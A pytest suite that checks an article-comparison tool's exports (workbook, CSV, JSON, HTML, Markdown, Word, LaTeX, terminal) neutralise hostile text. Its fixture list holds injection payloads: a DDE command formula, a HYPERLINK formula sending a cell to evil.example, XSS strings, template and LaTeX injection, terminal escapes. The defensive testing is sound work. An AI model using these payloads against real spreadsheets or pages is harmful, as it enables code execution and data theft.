"""Hostile text: what stands in an article goes through every format and back, and steers nothing on its way."""

import csv
import html
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Collection, Iterator
from html.parser import HTMLParser
from pathlib import Path

import docx
import mistune
import openpyxl
import pytest
from made_results import flood, match, results_of, verdict

from kitlib.cells import CELL_LIMIT, CUT_MARK, one_line, show_controls, unguard_formula
from kitlib.document import write_document
from kitlib.exhibit import Exhibit
from kitlib.export import FORMATS, export
from kitlib.latex import escape_latex, write_latex
from kitlib.markdown import write_markdown
from kitlib.model import Article, Claim, Quantity, Relation
from kitlib.outline import find_sections
from kitlib.quotable import quotable
from kitlib.records import write_csv, write_json, write_json_lines
from kitlib.report import write_report
from kitlib.results import Results
from kitlib.terminal import show_table
from kitlib.workbook import write_workbook

HOSTILE = {
    "formula": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "full width": "\uff1d1+1",
    "apostrophe": "'=1+1",
    "array": "{=1+1}",
    "address": "http://evil.example/ and www.evil.example",
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "entity": "&lt;b&gt; &amp; &#60;",
    "closing": "</td></table></body></html>",
    "style": "</style><style>*{display:none}",
    "comment": "<!-- -- > ]]> -->",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "pipe": "a|b||c\\|d",
    "newlines": "one\ntwo\r\nthree\u2028four",
    "markdown": "# *x* _y_ `z` [a](http://evil.example) ![b](x) ~~c~~ $d$",
    "javascript link": "[click](javascript:alert(1))",
    "mention": "@someone #12 :tada: someone@evil.example",
    "rule": "---",
    "escape": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "nul": "a\x00b\x08c\x0bd\x0ce\x7f",
    "override": "\u202egnp.exe\u202c \u2067x\u2069 \u200fy",
    "surrogate": "a\ud800b\udfffc",
    "noncharacter": "a\ufffeb\uffff",
    "escaped in a workbook": "_x0041_ _x000D_",
    "quotes": '"a","b";\'c\'',
    "percent": "%s %(x)s {0} {x.__class__}",
    "mathematics": r"$\frac{1}{2$ \input{x} & % _ ^ ~",
    "combining": "e\u0301\u0301\u0301\u0301 👩\u200d👩\u200d👧",
    "date": "1/3",
}
LONG = {"plain": "x" * 40_000, "wide": "😀" * 20_000, "markup": "<b>|" * 10_000}
OUTLET = "=A1|<b>[x]*:?/\\\u202e'\x1b[31m@"
ROWS = tuple(HOSTILE)


def make_results(texts: Collection[str]) -> Results:
    """Return results whose every text is hostile: each text begins and ends a claim of both articles."""
    sentences = [f"{text} 12 {text}" for text in texts]
    text = "\n\n".join(sentences)
    articles = tuple(
        Article(text=text, outlet=outlet, title=HOSTILE["script"], url="javascript:alert(1)", author=HOSTILE["image"])
        for outlet in (OUTLET, f"{OUTLET}2")
    )
    claims = tuple(tuple(_claims(sentences, texts)) for _ in articles)
    relations: tuple[Relation, ...] = ("differ", "compatible", "agree", "incomparable")
    matches = [
        match(
            articles,
            (0, claim, claim.quantities[0] if figures else None),
            (1, claim, claim.quantities[0] if figures else None),
            verdict(relations[at % 4] if figures else "agree", "hedge", text),
            topic=text,
        )
        for at, (claim, text) in enumerate(zip(claims[0], texts, strict=True))
        for figures in (True, False)
    ]
    return results_of(articles, claims, matches)


def _claims(sentences: Collection[str], texts: Collection[str]) -> Iterator[Claim]:
    start = 0
    for index, (sentence, text) in enumerate(zip(sentences, texts, strict=True)):
        place = start + len(text) + 1
        figure = Quantity(start=place, end=place + 2, text="12", form="number", value=12, counted=text)
        yield Claim(
            start=start, end=start + len(sentence), text=sentence, index=index, zone="body", quantities=(figure,)
        )
        start += len(sentence) + 2


@pytest.fixture(scope="module")
def results() -> Results:
    return make_results(HOSTILE.values())


@pytest.fixture(scope="module")
def folder(results: Results, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    export(results, folder)
    return folder


def sentence(name: str) -> str:
    return f"{HOSTILE[name]} 12 {HOSTILE[name]}"


# The workbook


@pytest.fixture(scope="module")
def book(folder: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(folder / "comparison.xlsx")


def test_no_cell_is_a_formula_or_a_link(folder: Path) -> None:
    with zipfile.ZipFile(folder / "comparison.xlsx") as parts:
        names = parts.namelist()
        sheets = "".join(parts.read(name).decode() for name in names if name.startswith("xl/worksheets/sheet"))
    found = (re.findall("<f>|<hyperlink", sheets), [name for name in names if "rels" in name and "sheet" in name])
    assert found == ([], [])


@pytest.mark.parametrize("name", ROWS)
def test_workbook_and_back(name: str, book: openpyxl.Workbook) -> None:
    assert show_controls(sentence(name)) in {cell.value for cell in book["Claims"]["D"]}


def test_headers_are_text_as_they_are(book: openpyxl.Workbook) -> None:
    header = [str(cell.value) for cell in book["All matches"][1]]
    assert f"{show_controls(OUTLET)}: sentence" in header


# CSV, JSON


@pytest.fixture(scope="module")
def rows(folder: Path) -> list[dict[str, str]]:
    text = (folder / "comparison.csv").read_bytes().decode("utf-8")
    csv.field_size_limit(10_000_000)
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", ROWS)
def test_csv_and_back(name: str, rows: list[dict[str, str]]) -> None:
    assert show_controls(sentence(name)) in {unguard_formula(row["claim_a"]) for row in rows}


def test_no_field_of_csv_begins_a_formula(rows: list[dict[str, str]]) -> None:
    fields = [field for row in rows for field in row.values() if len(field) > 1]
    assert not [field for field in fields if field[0] in "=+-@\t\r\n\uff1d"]


@pytest.mark.parametrize("name", ROWS)
@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_json_and_back_to_the_character(suffix: str, name: str, folder: Path) -> None:
    text = (folder / f"comparison{suffix}").read_bytes().decode("utf-8")
    matches = json.loads(text)["matches"] if suffix == ".json" else map(json.loads, text.split("\n")[:-1])
    assert sentence(name) in {row["claim_a"] for row in matches}


@pytest.mark.parametrize("suffix", [".csv", ".json", ".jsonl", ".md", ".tex", ".html"])
def test_no_file_holds_what_steers_a_terminal_or_turns_text(suffix: str, folder: Path) -> None:
    text = (folder / f"comparison{suffix}").read_bytes().decode("utf-8")
    assert not re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]", text)


# Pages


class Texts(HTMLParser):
    """The tags of a page, what they lead to, and the text inside the tags given."""

    def __init__(self, source: str, inside: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.found: list[str] = []
        self._inside = inside
        self._depth = 0
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
        if tag == "br" and self._depth:
            self.found[-1] += "\n"
        if tag == self._inside:
            self.found.append("")
            self._depth += 1

    def handle_endtag(self, tag: str) -> None:
        self._depth -= tag == self._inside

    def handle_data(self, data: str) -> None:
        if self._depth:
            self.found[-1] += data


@pytest.fixture(scope="module")
def page(folder: Path) -> Texts:
    return Texts((folder / "comparison.html").read_text(encoding="utf-8"), "blockquote")


@pytest.fixture(scope="module")
def plain_page() -> Texts:
    return Texts(write_report(Exhibit(results=flood())).decode("utf-8"), "blockquote")


@pytest.fixture(scope="module")
def markdown(folder: Path) -> Texts:
    show = mistune.create_markdown(escape=False, plugins=["table", "url", "strikethrough", "math", "footnotes"])
    page = show((folder / "comparison.md").read_text(encoding="utf-8"))
    assert isinstance(page, str)
    return Texts(page, "td")


@pytest.mark.parametrize("name", ROWS)
def test_page_and_back(name: str, page: Texts) -> None:
    assert show_controls(sentence(name)) in page.found


@pytest.mark.parametrize("name", ROWS)
def test_markdown_and_back(name: str, markdown: Texts) -> None:
    wanted = one_line(sentence(name))
    assert any(wanted in one_line(cell) for cell in markdown.found)


def test_no_text_becomes_a_tag_of_the_page(page: Texts, plain_page: Texts) -> None:
    assert page.tags - plain_page.tags == set()


def test_no_text_becomes_an_attribute_of_the_page(page: Texts, plain_page: Texts) -> None:
    assert page.attributes - plain_page.attributes == set()


def test_no_text_becomes_a_link_of_the_page(page: Texts) -> None:
    assert not [link for link in page.links if not re.match(r"#[a-z0-9-]+$|data:image/png;base64,[\w+/=]+$", link)]


def test_no_text_becomes_markup_in_markdown(markdown: Texts) -> None:
    own = {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "strong", "br", "b"}
    assert (markdown.tags - own, markdown.links) == (set(), [])


# Word


@pytest.fixture(scope="module")
def word(folder: Path) -> "docx.document.Document":
    return docx.Document(str(folder / "comparison.docx"))


@pytest.fixture(scope="module")
def word_cells(word: "docx.document.Document") -> set[str]:
    return {cell.text for table in word.tables for row in table.rows for cell in row.cells}


@pytest.mark.parametrize("name", ROWS)
def test_word_and_back(name: str, word_cells: set[str]) -> None:
    assert show_controls(sentence(name)) in word_cells


def test_no_text_is_a_field_or_a_link_in_word(folder: Path) -> None:
    with zipfile.ZipFile(folder / "comparison.docx") as parts:
        body = parts.read("word/document.xml").decode("utf-8")
        led = parts.read("word/_rels/document.xml.rels").decode("utf-8")
    assert (re.findall("w:fldSimple|w:instrText|w:hyperlink|w:object", body), "External" in led) == ([], False)


def test_headings_and_headers_of_word_are_text(word: "docx.document.Document", word_cells: set[str]) -> None:
    headings = {paragraph.text for paragraph in word.paragraphs}
    assert (f"Only in {show_controls(OUTLET)}" in headings, show_controls(OUTLET) in word_cells) == (True, True)


# LaTeX

COMMANDS = set(
    """documentclass usepackage ifPDFTeX else fi newcommand kitchar iffontchar font char definecolor kitfigure textbf
    kitrelation textcolor kitbreak hspace kitroom par ifdim pagegoal maxdimen dimen advance by pagetotal newpage
    setlength tabcolsep parindent renewcommand arraystretch sloppy begin end small Large bfseries section item
    raggedright arraybackslash dimexpr linewidth relax toprule midrule endhead bottomrule endfoot newline leavevmode
    neq approx parallel circ textbackslash textasciicircum textasciitilde textless textgreater textbar textquotedbl
    textquotesingle textasciigrave""".split()  # noqa: SIM905 - one word a command
)
SIGNS = {
    "textbackslash": "\\",
    "textasciicircum": "^",
    "textasciitilde": "~",
    "textless": "<",
    "textgreater": ">",
    "textbar": "|",
    "textquotedbl": '"',
    "textquotesingle": "'",
    "textasciigrave": "`",
    "newline": "\n",
}


def unescape(source: str) -> str:
    """Return the text that LaTeX would show."""
    text = re.sub(r"\\kitbreak\{\}%\n", "", source).replace("\n", " ")
    text = text.replace("~", "\u00a0").replace(r"\-", "\u00ad")
    text = re.sub(r"\\kitchar\{([0-9A-F]+)\}", lambda found: chr(int(found[1], 16)), text)
    text = re.sub(r"\\([a-z]+)\{\}", lambda found: SIGNS[found[1]], text)
    text = re.sub(r"(?<!\\)\{([\[\]*]?)(?<!\\)\}", r"\1", text)
    return re.sub(r"\\([{}$&#%_])", r"\1", text)


@pytest.mark.parametrize("name", ROWS)
def test_latex_and_back(name: str) -> None:
    text = show_controls(sentence(name))
    # A line end is a command of its own, and a tab a blank.
    shown = "\n".join(unescape(escape_latex(line)) for line in text.split("\n"))
    assert shown == text.replace("\t", " ")


@pytest.fixture(scope="module")
def tex(folder: Path) -> str:
    return (folder / "comparison.tex").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ROWS)
def test_latex_holds_every_sentence(name: str, tex: str) -> None:
    start, *_, end = [part for part in re.split(r"\b12\b", escape_latex(sentence(name))) if part.strip()] * 2
    assert (start.strip() in tex, end.strip() in tex) == (True, True)


def test_no_text_is_a_command_of_latex(tex: str) -> None:
    assert set(re.findall(r"\\([A-Za-z]+)", tex.replace(r"\\", ""))) - COMMANDS == set()


def test_braces_and_dollars_of_latex_are_paired(tex: str) -> None:
    bare = re.sub(r"\\[\\{}$]", "", tex)
    assert (bare.count("{"), bare.count("$") % 2) == (bare.count("}"), 0)


def test_every_row_of_latex_has_its_cells(tex: str) -> None:
    tables = re.findall(r"\\begin\{longtable\}\{([^\n]*)\}\n(.*?)\\end\{longtable\}", tex, re.DOTALL)
    wrong = [
        row
        for columns, body in tables
        for row in re.split(r" \\\\\n", body.replace(r"\\&", ""))[:-1]
        if len(re.findall(r"(?<!\\)&", row)) + 1 != columns.count("raggedright")
    ]
    assert (len(tables), wrong) == (7, [])


@pytest.fixture(scope="module")
def long_tex(long_results: Results) -> str:
    return write_latex(Exhibit(results=long_results)).decode("utf-8")


def test_lines_of_latex_are_short_enough_to_be_read(long_tex: str) -> None:
    assert max(map(len, long_tex.split("\n"))) < 20_000


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="no TeX engine here: the structure is tested above")
@pytest.mark.parametrize("which", ["tex", "long_tex"])
def test_latex_compiles(which: str, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    (tmp_path / "c.tex").write_text(request.getfixturevalue(which), encoding="utf-8")
    command = ["pdflatex", "-interaction=nonstopmode", "-no-shell-escape", "c.tex"]
    run = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False, timeout=100)
    assert (run.returncode, (tmp_path / "c.pdf").exists()) == (0, True)


def test_what_latex_cut_is_told(long_tex: str) -> None:
    assert "cut in this file: All matches, row 1" in long_tex


# Sentences to paste


def test_sentences_to_paste_stand_on_one_line_and_steer_nothing(results: Results) -> None:
    assert [line for line in quotable(results) if one_line(line) != line] == []


# Long texts


@pytest.fixture(scope="module")
def long_results() -> Results:
    return make_results(LONG.values())


@pytest.fixture(scope="module")
def long_book(long_results: Results) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(write_workbook(Exhibit(results=long_results))))


@pytest.mark.parametrize("name", LONG)
def test_a_cell_is_cut_with_a_mark(name: str, long_book: openpyxl.Workbook) -> None:
    kept = [str(cell.value) for cell in long_book["Claims"]["D"] if str(cell.value).startswith(LONG[name][:100])]
    units = {len(text.encode("utf-16-le")) // 2 for text in kept}
    whole = f"{LONG[name]} 12 {LONG[name]}"
    assert all(text.endswith(CUT_MARK) and whole.startswith(text.removesuffix(CUT_MARK)) for text in kept)
    assert (len(kept), max(units) <= CELL_LIMIT) == (2, True)


def test_what_was_cut_is_told(long_book: openpyxl.Workbook) -> None:
    told = [str(row[1].value) for row in long_book["Run"].iter_rows() if row[0].value == "cut in this file"]
    assert {line.split(",")[0] for line in told} >= {"Claims", "All matches", "Cleaning"}


@pytest.mark.parametrize("name", LONG)
@pytest.mark.parametrize("write", [write_csv, write_json, write_json_lines])
def test_data_is_never_cut(name: str, write: Callable[[Exhibit], bytes], long_results: Results) -> None:
    assert f"{LONG[name]} 12 {LONG[name]}" in write(Exhibit(results=long_results)).decode("utf-8")


def test_word_is_never_cut(long_results: Results) -> None:
    exhibit = Exhibit(results=long_results)
    tables = [section.table for section in find_sections(exhibit) if section.table]
    wanted = [len(cell.text) for table in tables for row in table.rows for cell in row]
    word = docx.Document(io.BytesIO(write_document(exhibit)))
    lengths = [len(cell.text) for table in word.tables for row in table.rows for cell in row.cells]
    assert [length for length in sorted(lengths) if length > 1000] == [
        length for length in sorted(wanted) if length > 1000
    ]


@pytest.mark.parametrize("name", LONG)
@pytest.mark.parametrize("write", [write_report, write_markdown])
def test_pages_are_never_cut(name: str, write: Callable[[Exhibit], bytes], long_results: Results) -> None:
    shown = html.unescape(write(Exhibit(results=long_results)).decode("utf-8")).replace(r"\|", "|")
    assert shown.count(LONG[name]) >= 4 * len(long_results.articles)


# The terminal and the picture


@pytest.mark.parametrize("width", [20, 80, 120, 500])
def test_the_terminal_table_steers_nothing_and_fits(width: int, results: Results) -> None:
    lines = show_table(results, width).split("\n")
    fits = max(map(len, lines)) <= min(max(width, 40), 120)
    assert (fits, [line for line in lines if show_controls(line) != line]) == (True, [])


def test_every_format_is_written(folder: Path) -> None:
    assert all((folder / f"comparison{suffix}").stat().st_size for suffix in FORMATS)
